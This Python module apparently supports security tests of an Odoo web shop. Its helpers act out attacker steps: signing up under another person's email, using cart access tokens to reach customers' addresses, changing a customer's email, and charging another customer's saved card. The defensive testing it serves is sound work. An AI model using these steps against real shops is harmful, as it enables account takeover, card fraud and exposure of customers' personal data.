"""What somebody with a cart tries: its customer's contact, addresses and cards."""

import contextlib
import re
from types import SimpleNamespace

import lxml.html
import requests

from .attacker import HIDDEN, PASSWORD, STOLEN, customer_of, move, newest_order
from .client import RpcError, Visitor

KEEP = "//input[@name='keep'][starts-with(@value, 'res.partner') or @value='rest']"


def leave_cart(shop, visitor, email=None):
    """Fill a cart, go on to its payment page, and keep what that tells."""
    page = visitor.check_out(shop.chair, email)
    order_id = newest_order(shop)
    return SimpleNamespace(
        visitor=visitor,
        id=order_id,
        token=token_of(page),
        amount=float(page.xpath("//form[@id='o_payment_form']/@data-amount")[0]),
        partner=customer_of(shop, order_id),
    )


def register(shop, address):
    """Sign up in somebody's name, and leave a cart there."""
    thief = Visitor(shop.server)
    assert thief.sign_up(address, STOLEN)
    move(shop, thief, address, "1 Evil Road")
    cart = leave_cart(shop, thief)
    cart.visitor = Visitor(shop.server)
    return cart


def order_by_phone(shop, address):
    """Leave a cart in somebody's name, and have staff give that contact access."""
    cart = leave_cart(shop, Visitor(shop.server), address)
    wizard = {"partner_ids": [(6, 0, [cart.partner])]}
    wizard = shop.admin("portal.wizard", "create", wizard)
    domain = [("wizard_id", "=", wizard)]
    users = shop.admin("portal.wizard.user", "search", domain)
    shop.admin("portal.wizard.user", "action_grant_access", users)
    return cart


def token_of(page):
    """Return the access token of the cart on a payment page."""
    return page.xpath("//form[@id='o_payment_form']/@data-access-token")[0]


def opens(cart):
    """Return whether a cart's link, or its session, shows where the customer lives."""
    query = f"id={cart.id}&access_token={cart.token}&revive_method=squash"
    form = f"/shop/address?partner_id={cart.partner}&address_type=billing"
    paths = ["/shop/cart", f"/shop/cart?{query}", "/shop/checkout", form]
    return any(HIDDEN in cart.visitor.get(path).text for path in paths)


def edit(cart, email):
    """Try to give the customer of a cart another email."""
    with contextlib.suppress(AssertionError):
        cart.visitor.give_address(email, partner_id=cart.partner)


def save_card(shop, customer):
    """Have a customer buy and save the card, and return its id."""
    customer.pay(customer.check_out(shop.chair), save_card=True)
    return shop.db.value("SELECT max(id) FROM payment_token")


def charge(shop, visitor, path, token, card, amount=999.0):
    """Return whether a visitor pays with a saved card."""
    try:
        payment = visitor.call(
            path,
            provider_id=shop.demo,
            payment_method_id=None,
            token_id=card,
            amount=amount,
            flow="token",
            tokenization_requested=False,
            landing_route="/my",
            access_token=token,
        )
    except (RpcError, requests.HTTPError):
        return False
    return payment["state"] == "done"


def activate_with_planted(shop, address, number):
    """Activate an account for whose contact a guest has typed addresses.

    :return: the queries of the activation, and the addresses it asked about
    """
    guest, delivery = Visitor(shop.server), {"address_type": "delivery"}
    guest.fill_cart(shop.chair)
    guest.give_address(address)
    guest.give_address(address, street="1 Evil Road", **delivery)
    guest.pay(guest.go_to_payment())
    partner = customer_of(shop, newest_order(shop))
    columns = shop.db.value(
        "SELECT string_agg(quote_ident(column_name), ', ') "
        "FROM information_schema.columns WHERE table_name = 'res_partner' "
        "AND column_name <> 'id' AND is_generated = 'NEVER'"
    )
    shop.db.sql(
        f"INSERT INTO res_partner ({columns}) SELECT {columns} FROM res_partner, "
        "generate_series(1, %s) WHERE parent_id = %s",
        number - 1,
        partner,
    )
    mail, customer = shop.mailbox.wait_for_one(address), Visitor(shop.server)
    page = lxml.html.fromstring(customer.session.get(mail.link, timeout=120).content)
    assert "/my/" in customer.activate(mail, PASSWORD).url
    query = "SELECT count(*) FROM res_partner WHERE active AND parent_id = %s"
    assert not shop.db.value(query, partner)
    # Odoo logs how many queries a request took.
    log = shop.server.log.read_text(errors="replace")
    queries = re.findall(r'"POST /web/portal/activate HTTP/1.1" 303 - (\d+) ', log)[-1]
    return int(queries), len(page.xpath(KEEP))
